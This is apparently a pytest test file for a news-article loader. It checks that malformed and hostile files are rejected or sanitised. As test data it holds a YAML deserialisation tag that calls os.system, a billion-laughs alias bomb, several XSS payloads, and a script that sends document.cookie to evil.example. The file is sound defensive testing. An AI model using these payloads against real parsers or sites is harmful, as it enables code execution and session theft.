"""Hostile and broken files: each one a clear ArticleError naming the file, or text decoded right."""

from __future__ import annotations

import os
import time
from pathlib import Path

import pytest

from app.ingest.decoding import ArticleError
from app.ingest.loader import iter_article_paths, load_article
from app.ingest.pipeline import load_inputs

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x06\x00\x00\x00\x1f\xf3\xffa"
ARTICLE = (
    "Police in Romford launched a week of action against anti-social behaviour on Monday.\n\n"
    "Havering Council said \u201cextra patrols\u201d would cost \u00a312,000 and run until the end of the month.\n"
)


def write(folder: Path, name: str, data: bytes | str) -> Path:
    path = folder / name
    path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
    return path


def billion_laughs(levels: int = 9) -> str:
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, levels):
        lines.append(f"a{i}: &a{i} [" + ",".join([f"*a{i - 1}"] * 9) + "]")
    return "---\n" + "\n".join(lines) + f"\ntitle: *a{levels - 1}\n---\nBody.\n"


@pytest.mark.parametrize(
    "name,data,problem",
    [
        ("empty.txt", b"", "empty file"),
        ("spaces.txt", b" \t\r\n\n   \n", "file holds only whitespace"),
        ("nbsp.md", "\u00a0\n\n\u3000\n".encode(), "file holds only whitespace"),
        ("photo.txt", PNG, "binary file (PNG image), not an article"),
        ("scan.txt", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj", "binary file (PDF document), not an article"),
        ("words.txt", b"PK\x03\x04\x14\x00\x06\x00", "binary file (ZIP archive (or Office document)), not an article"),
        ("noise.txt", bytes(range(256)) * 8, "binary file (contains NUL bytes), not an article"),
        ("controls.txt", b"\x01\x02\x03police\x04\x05\x06" * 50, "binary file (too many control characters), not an article"),
        ("bad16.txt", b"\xff\xfe" + b"\x00\xd8" * 3, "starts with a UTF-16 byte-order mark but is not UTF-16 text"),
        ("open.md", "---\ntitle: Romford\nNo closing fence.\n", "front matter starts with '---' but is never closed"),
        ("tag.md", "---\ntitle: !!python/object/apply:os.system ['touch /tmp/pwned']\n---\nBody.\n",
         "malformed front matter (line 2): could not determine a constructor for the tag 'tag:yaml.org,2002:python/object/apply:os.system'"),
        ("custom-tag.md", "---\ntitle: !secret x\n---\nBody.\n", "malformed front matter (line 2): could not determine a constructor for the tag '!secret'"),
        ("laughs.md", billion_laughs(), "malformed front matter (line 2): YAML anchors and aliases are not allowed"),
        ("deep.md", "---\ntitle: " + "[" * 50_000 + "\n---\nBody.\n", "malformed front matter: nested too deeply"),
        ("digits.md", "---\ntitle: " + "7" * 5000 + "\n---\nBody.\n",
         "malformed front matter: Exceeds the limit (4300 digits) for integer string conversion: value has 5000 digits"),
        ("feb30.md", "---\npublished: 2019-02-30\n---\nBody.\n", "malformed front matter: day is out of range for month"),
        ("year-one.md", "---\npublished: 0001-01-01\n---\nBody.\n", "published date 0001-01-01 is not plausible (years 1900-2100)"),
        ("far-future.md", "---\npublished: 9999-12-31\n---\nBody.\n", "published date 9999-12-31 is not plausible (years 1900-2100)"),
        ("huge-title.md", "---\ntitle: " + "x" * 3000 + "\n---\nBody.\n", "front matter 'title' is longer than 2000 characters"),
        ("huge-block.md", "---\n" + "# padding\n" * 7000 + "title: x\n---\nBody.\n", "front matter is over 64 KiB"),
        ("mapping-title.md", "---\ntitle: {first: a, second: b}\n---\nBody.\n", "front matter 'title' must be text, not dict"),
        ("binary-title.md", "---\ntitle: !!binary aGVsbG8=\n---\nBody.\n", "front matter 'title' must be text, not bytes"),
        ("js-url.md", "---\nurl: javascript:alert(document.cookie)\n---\nBody.\n", "front matter 'url' must be an http:// or https:// address"),
        ("data-url.md", "---\nurl: 'data:text/html,<script>alert(1)</script>'\n---\nBody.\n", "front matter 'url' must be an http:// or https:// address"),
        ("scalar.md", "---\njust a string\n---\nBody.\n", "front matter must be a mapping of field: value"),
        ("only-front.md", "---\ntitle: Nothing else\n---\n", "no text: the file is empty or holds only whitespace/markup"),
        ("only-script.html", "<html><head><script>alert(1)</script></head><body></body></html>", "no article text found in the HTML page"),
        ("frames.html", '<html><body><iframe src="https://evil.example/"></iframe></body></html>', "no article text found in the HTML page"),
        ("notes.docx", b"PK\x03\x04", "unsupported file type .docx: use .txt, .md or .html"),
        ("README", b"text", "unsupported file type (none): use .txt, .md or .html"),
    ],
)
def test_a_bad_file_gets_one_error_naming_it_and_its_problem(tmp_path, name, data, problem):
    path = write(tmp_path, name, data)
    with pytest.raises(ArticleError) as info:
        load_article(path)
    assert (info.value.path, info.value.problem) == (str(path), problem)
    assert str(info.value) == f"{path}: {problem}"
    assert "\n" not in str(info.value)


@pytest.mark.parametrize(
    "name,data",
    [
        ("utf8.txt", ARTICLE.encode("utf-8")),
        ("utf8-bom.txt", b"\xef\xbb\xbf" + ARTICLE.encode("utf-8")),
        ("cp1252.txt", ARTICLE.encode("cp1252")),
        ("utf16-bom.txt", ARTICLE.encode("utf-16")),
        ("utf16-be-bom.txt", b"\xfe\xff" + ARTICLE.encode("utf-16-be")),
        ("utf16-no-bom.txt", ARTICLE.encode("utf-16-le")),
        ("utf32-bom.txt", ARTICLE.encode("utf-32")),
        ("crlf.txt", ARTICLE.replace("\n", "\r\n").encode("cp1252")),
    ],
)
def test_real_text_in_any_common_encoding_is_decoded_exactly(tmp_path, name, data):
    article = load_article(write(tmp_path, name, data))
    assert [p.text for p in article.paragraphs] == [
        "Police in Romford launched a week of action against anti-social behaviour on Monday.",
        "Havering Council said \u201cextra patrols\u201d would cost \u00a312,000 and run until the end of the month.",
    ]


def test_a_short_cp1252_note_with_one_pound_sign_is_not_read_as_central_european(tmp_path):
    article = load_article(write(tmp_path, "short.txt", "Fines of \u00a3100 for kerb crawlers.".encode("cp1252")))
    assert article.text == "Fines of \u00a3100 for kerb crawlers."


def test_a_stray_control_character_is_dropped_not_refused(tmp_path):
    article = load_article(write(tmp_path, "vt.txt", b"Officers patrolled\x0b Ilford Lane.\x1b\n"))
    assert article.text == "Officers patrolled Ilford Lane."


def test_html_scripts_frames_and_event_handlers_never_reach_the_stored_text(tmp_path):
    html = """<html><head><title>Knife arch at Ilford station</title>
    <script>document.location='https://evil.example/?c='+document.cookie</script></head><body><article>
    <p>Officers set up a knife arch at Ilford station on Friday as part of a week of action against knife crime.</p>
    <p onmouseover="alert('x')">British Transport Police said <b onclick="steal()">nine people</b> were searched and two knives were found in the first three hours.</p>
    <iframe src="javascript:alert(2)"></iframe><img src=x onerror="alert(3)">
    <p>The arch will return to the station next month, the force said, with extra patrols at weekends.</p>
    </article></body></html>"""
    article = load_article(write(tmp_path, "arch.html", html))
    assert [p.text for p in article.paragraphs] == [
        "Officers set up a knife arch at Ilford station on Friday as part of a week of action against knife crime.",
        "British Transport Police said nine people were searched and two knives were found in the first three hours.",
        "The arch will return to the station next month, the force said, with extra patrols at weekends.",
    ]
    for marker in ("<", "alert", "evil", "onerror", "onclick", "javascript"):
        assert marker not in article.text


def test_markup_in_a_text_article_is_kept_as_literal_text(tmp_path):
    text = 'Residents posted <script>alert("hi")</script> on the forum.\n\n<img src=x onerror=alert(1)> was also posted.'
    article = load_article(write(tmp_path, "forum.txt", text))
    assert [p.text for p in article.paragraphs] == [
        'Residents posted <script>alert("hi")</script> on the forum.',
        "<img src=x onerror=alert(1)> was also posted.",
    ]


def test_a_file_over_the_limit_from_settings_is_refused(tmp_path):
    from app.config import Settings

    settings = Settings(max_file_bytes=2_000)
    path = write(tmp_path, "long.txt", ("Police patrolled the high street again. " * 60).encode())
    with pytest.raises(ArticleError) as info:
        load_article(path, max_bytes=settings.max_file_bytes)
    assert info.value.problem == "file is 2,400 bytes, over the 2,000-byte limit"


def test_a_sparse_file_over_fifty_megabytes_is_refused_without_being_read(tmp_path):
    from app.config import Settings

    path = tmp_path / "huge.txt"
    with path.open("wb") as handle:
        handle.truncate(60 * 1024 * 1024)  # sparse: 60 MB of size, no blocks on disk
    read_before = _bytes_read()
    with pytest.raises(ArticleError) as info:
        load_article(path, max_bytes=Settings().max_file_bytes)
    assert info.value.problem == "file is 62,914,560 bytes, over the 52,428,800-byte limit"
    assert _bytes_read() - read_before < 64 * 1024  # refused from its size alone, not read


def _bytes_read() -> int:
    """Bytes this process has read through read() calls so far (Linux /proc/self/io 'rchar')."""
    for line in Path("/proc/self/io").read_text().splitlines():
        if line.startswith("rchar:"):
            return int(line.split()[1])
    raise AssertionError("no rchar in /proc/self/io")


def test_a_named_pipe_is_refused_instead_of_blocking(tmp_path):
    path = tmp_path / "pipe.txt"
    os.mkfifo(path)
    with pytest.raises(ArticleError) as info:
        load_article(path)
    assert info.value.problem == "not a regular file (a device, pipe or socket)"


def test_links_that_are_broken_or_loop_get_their_own_error(tmp_path):
    (tmp_path / "gone.txt").symlink_to(tmp_path / "missing.txt")
    (tmp_path / "self.txt").symlink_to(tmp_path / "self.txt")
    (tmp_path / "up.txt").symlink_to(tmp_path)
    problems = {p.name: _problem(p) for p in (tmp_path / "gone.txt", tmp_path / "self.txt", tmp_path / "up.txt")}
    assert problems == {
        "gone.txt": "broken link (its target is missing, or links back to itself)",
        "self.txt": "broken link (its target is missing, or links back to itself)",
        "up.txt": "is a link to a folder (links are not followed, so folders cannot loop)",
    }


def test_a_folder_linking_to_its_parent_is_walked_once_without_looping(tmp_path):
    corpus = tmp_path / "corpus"
    (corpus / "inner").mkdir(parents=True)
    write(corpus, "a.txt", ARTICLE)
    write(corpus / "inner", "b.txt", ARTICLE.replace("Romford", "Hornchurch"))
    (corpus / "inner" / "loop").symlink_to(corpus)  # inner/loop/inner/loop/... forever if followed
    (corpus / "inner" / "again.txt").symlink_to(corpus / "a.txt")  # the same file twice: read once
    started = time.perf_counter()
    found = [p.relative_to(corpus).as_posix() for p in iter_article_paths([corpus])]
    assert found == ["a.txt", "inner/b.txt"]
    loaded = list(load_inputs([str(corpus), str(corpus / "inner" / "loop")], max_bytes=10_000))
    assert [(type(x).__name__, getattr(x, "slug", None) or x.problem) for x in loaded] == [
        ("Article", "a"),
        ("Article", "b"),
        ("ArticleError", "is a link to a folder (links are not followed, so folders cannot loop)"),
    ]
    assert time.perf_counter() - started < 5


def _problem(path: Path) -> str:
    with pytest.raises(ArticleError) as info:
        load_article(path)
    return info.value.problem


@pytest.mark.parametrize("url", ["javascript:alert(1)", "data:text/html,<b>x</b>", "//evil.example/x", "https://ok.example/a\"onmouseover=alert(1)"])
def test_a_link_that_is_not_a_web_address_from_sources_toml_is_dropped(tmp_path, url):
    article = load_article(write(tmp_path, "a.txt", ARTICLE), meta={"url": url, "publisher": "Romford Recorder"})
    assert (article.url, article.publisher) == (None, "Romford Recorder")
